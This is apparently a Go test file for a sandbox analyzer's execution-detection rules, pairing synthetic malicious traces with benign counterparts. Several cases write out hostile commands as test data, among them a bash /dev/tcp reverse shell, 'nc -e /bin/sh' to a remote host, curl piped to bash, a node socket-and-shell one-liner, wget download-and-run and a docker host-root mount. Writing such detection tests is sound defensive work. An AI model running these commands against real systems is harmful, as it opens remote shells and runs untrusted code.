package analyzer

import (
	"testing"

	"github.com/sandscan/sandscan/trace"
)

func TestExecutionRules(t *testing.T) {
	runRuleCases(t, []ruleCase{
		{name: "revshell binary dup2s the socket and execs sh -i", rule: "execution.reverse-shell", want: true, tech: "T1059.004",
			run: newRun("/usr/local/bin/revshell").connect(1, "198.51.100.23", 4444, 0).syscall(1, "dup2", 0, 3, 0).execIn(1, 0, "/bin/sh", "/bin/sh", "-i").done()},
		{name: "python connects then forks an interactive shell", rule: "execution.reverse-shell", want: true,
			run: sh("python3 x.py").spawn(1, 10, "/usr/bin/python3.11", "python3", "x.py").connect(10, "203.0.113.9", 9001, 101).spawn(10, 11, "/bin/sh", "sh", "-i").done()},
		{name: "bash /dev/tcp redirection", rule: "execution.reverse-shell", want: true,
			run: newRun("/bin/bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1").done()},
		{name: "sinkhole talked to a shell", rule: "execution.reverse-shell", want: true,
			run: newRun("/x").conn(trace.Conn{Proto: "tcp", DstIP: "198.51.100.23", DstPort: 4444, App: "shell", Shell: &trace.ShellInfo{Sent: "id\n", Received: "uid=0(root)"}, PID: 1}).done()},
		{name: "netcat -e", rule: "execution.reverse-shell", want: true,
			run: sh("nc -e /bin/sh 198.51.100.1 4444").spawn(1, 10, "/bin/nc.traditional", "nc", "-e", "/bin/sh", "198.51.100.1", "4444").done()},
		{name: "benign: probe on loopback then a non-interactive shell", rule: "execution.reverse-shell", want: false,
			run: sh("app").spawn(1, 10, "/usr/bin/python3", "python3", "-c", "import socket;socket.create_connection(('127.0.0.1',11211))").connect(10, "127.0.0.1", 11211, 0).spawn(10, 11, "/bin/sh", "sh", "-c", "echo ok").done()},

		{name: "curl | bash", rule: "execution.pipe-to-shell", want: true, tech: "T1105",
			run: sh("curl -s https://raw.example/x.sh | bash").spawn(1, 10, "/usr/bin/curl", "curl", "-s", "https://raw.example/x.sh").spawn(1, 11, "/usr/bin/bash", "bash").done()},
		{name: "benign: health probe and a script file", rule: "execution.pipe-to-shell", want: false,
			run: sh("x").spawn(1, 10, "/usr/bin/curl", "curl", "-s", "-o", "/dev/null", "http://127.0.0.1/").spawn(1, 11, "/bin/sh", "sh", "/app/start.sh").done()},

		{name: "awk system() shell", rule: "execution.interactive-shell", want: true,
			run: sh(`awk 'BEGIN {system("/bin/sh &")}'`).spawn(1, 10, "/usr/bin/awk", "awk", `BEGIN {system("/bin/sh &")}`).spawn(10, 11, "/bin/sh", "sh", "-c", "/bin/sh &").spawn(11, 12, "/bin/sh", "/bin/sh").done()},
		{name: "busybox sh in the background", rule: "execution.interactive-shell", want: true,
			run: sh("busybox sh &").spawn(1, 10, "/bin/busybox", "busybox", "sh").done()},
		{name: "benign: entrypoint execs sh in place", rule: "execution.interactive-shell", want: false,
			run: sh(`exec "$@"`).execIn(1, 0, "/bin/sh", "sh").done()},
		{name: "benign: su runs a command", rule: "execution.interactive-shell", want: false,
			run: sh("su postgres -s /bin/sh -c 'initdb'").spawn(1, 10, "/bin/su", "su", "postgres", "-s", "/bin/sh", "-c", "initdb").spawn(10, 11, "/bin/sh", "sh", "-c", "initdb").done()},

		{name: "python pty.spawn", rule: "execution.inline-interpreter", want: true, tech: "T1059.006",
			run: sh("x").spawn(1, 10, "/usr/bin/python3.11", "python3", "-c", "import pty;pty.spawn('/bin/sh')").done()},
		{name: "python xor decode then subprocess", rule: "execution.inline-interpreter", want: true,
			run: sh("x").spawn(1, 10, "/usr/bin/python3", "python3", "-c", "import base64, subprocess; subprocess.call(base64.b64decode('d2hvYW1p'), shell=True)").done()},
		{name: "node child_process with a socket", rule: "execution.inline-interpreter", want: true, tech: "T1059.007",
			run: sh("x").spawn(1, 10, "/usr/bin/node", "node", "-e", "var net=require('net'),cp=require('child_process');var s=net.connect(4444,'h');cp.spawn('/bin/sh',[])").done()},
		{name: "benign: python socket probe on loopback", rule: "execution.inline-interpreter", want: false,
			run: sh("x").spawn(1, 10, "/usr/bin/python3", "python3", "-c", "import socket;s=socket.create_connection(('127.0.0.1',11211));s.sendall(b'stats');print(s.recv(200))").done()},
		{name: "benign: venv python prints json", rule: "execution.inline-interpreter", want: false,
			run: sh("x").spawn(1, 10, "/opt/app/bin/python", "python", "-c", "import sys, json; print(json.dumps({'prefix': sys.prefix}))").done()},

		{name: "at job queued", rule: "execution.at-job", want: true,
			run: sh("echo x | at now + 1 minute").spawn(1, 10, "/usr/bin/at", "at", "now", "+", "1", "minute").open(10, "/var/spool/cron/atjobs/a00001", wr).done()},
		{name: "benign: at -l lists", rule: "execution.at-job", want: false,
			run: sh("at -l").spawn(1, 10, "/usr/bin/at", "at", "-l").done()},

		{name: "systemctl link of a unit in /tmp", rule: "execution.systemctl-unusual-unit", want: true,
			run: sh("x").open(1, "/tmp/atomic.service", wr).spawn(1, 10, "/usr/bin/systemctl", "systemctl", "link", "/tmp/atomic.service").done()},
		{name: "benign: systemctl status", rule: "execution.systemctl-unusual-unit", want: false,
			run: sh("x").spawn(1, 10, "/usr/bin/systemctl", "systemctl", "status", "nginx").done()},

		{name: "docker run from inside", rule: "execution.container-admin", want: true,
			run: sh("x").spawn(1, 10, "/usr/bin/docker", "docker", "run", "-v", "/:/host", "alpine").done()},
		{name: "benign: docker --version", rule: "execution.container-admin", want: false,
			run: sh("x").spawn(1, 10, "/usr/bin/docker", "docker", "--version").done()},

		{name: "base64-decoded script run", rule: "execution.dropped-payload", want: true, tech: "T1140",
			run: sh("cat /tmp/e | base64 -d > /tmp/art.sh; chmod +x /tmp/art.sh; /tmp/art.sh").
				spawn(1, 10, "/bin/cat", "cat", "/tmp/e").add2(func(b *rb) { b.add(trace.Event{Kind: trace.KindClone, PID: 1, Child: 11}) }).
				open(11, "/tmp/art.sh", wr).execIn(11, 1, "/usr/bin/base64", "base64", "-d").
				spawn(1, 12, "/bin/chmod", "chmod", "+x", "/tmp/art.sh").spawn(1, 13, "/tmp/art.sh", "/tmp/art.sh").done()},
		{name: "program drops its embedded payload", rule: "execution.dropped-payload", want: true, tech: "T1027.009",
			run: newRun("/usr/local/bin/dropper").open(1, "/tmp/.x/payload", wr).spawn(1, 10, "/tmp/.x/payload", "payload").done()},
		{name: "downloaded then run", rule: "execution.dropped-payload", want: true, tech: "T1105",
			run: sh("x").spawn(1, 10, "/usr/bin/wget", "wget", "-O", "/tmp/p", "http://dl.example/p").connect(10, "192.0.2.1", 80, 0).open(10, "/tmp/p", wr).spawn(1, 11, "/tmp/p", "/tmp/p").done()},
		{name: "program downloads (non-blocking connect) then runs it", rule: "execution.dropped-payload", want: true, tech: "T1105",
			run: newRun("/usr/local/bin/dropper").connect(1, "10.13.128.1", 80, 115).open(1, "/tmp/.kworker", wr).spawn(1, 10, "/tmp/.kworker", "payload").done()},
		{name: "compiled then run", rule: "execution.dropped-payload", want: true, tech: "T1027.004",
			run: sh("x").spawn(1, 10, "/usr/bin/gcc", "gcc", "-o", "/tmp/a", "/tmp/a.c").open(10, "/tmp/a", wr).spawn(1, 11, "/tmp/a", "/tmp/a").done()},
		{name: "benign: package manager installs then runs", rule: "execution.dropped-payload", want: false,
			run: sh("apt-get install -y x").spawn(1, 10, "/usr/bin/apt-get", "apt-get", "install", "-y", "x").spawn(10, 11, "/usr/bin/dpkg", "dpkg", "-i", "x.deb").open(11, "/usr/bin/x", wr).spawn(1, 12, "/usr/bin/x", "x").done()},
		{name: "benign: venv interpreter symlink run", rule: "execution.dropped-payload", want: false,
			run: sh("python3 -m venv /opt/app && /opt/app/bin/python -c 'print(1)'").spawn(1, 10, "/usr/bin/python3.11", "python3", "-m", "venv", "/opt/app").
				spawn(1, 11, "/usr/bin/python3.11", "/opt/app/bin/python", "-c", "print(1)").
				symlink("/opt/app/bin/python", "python3").symlink("/opt/app/bin/python3", "/usr/bin/python3").done()},
		{name: "file in the fs diff, its write untraced, then run", rule: "execution.dropped-payload", want: true,
			run: sh("x").spawn(1, 11, "/opt/app/bin/agent", "/opt/app/bin/agent").file("/opt/app/bin/agent", trace.FileCreated, 0755).done()},
		{name: "benign: app writes a data file in /tmp and reads it", rule: "execution.dropped-payload", want: false,
			run: sh("sqlite3 /tmp/app.db 'select 1'").spawn(1, 10, "/usr/bin/sqlite3", "sqlite3", "/tmp/app.db", "select 1").open(10, "/tmp/app.db", oRdwr|oCreat).done()},
	})
}

// add2 lets a table row splice a raw event into the builder chain.
func (b *rb) add2(f func(*rb)) *rb { f(b); return b }
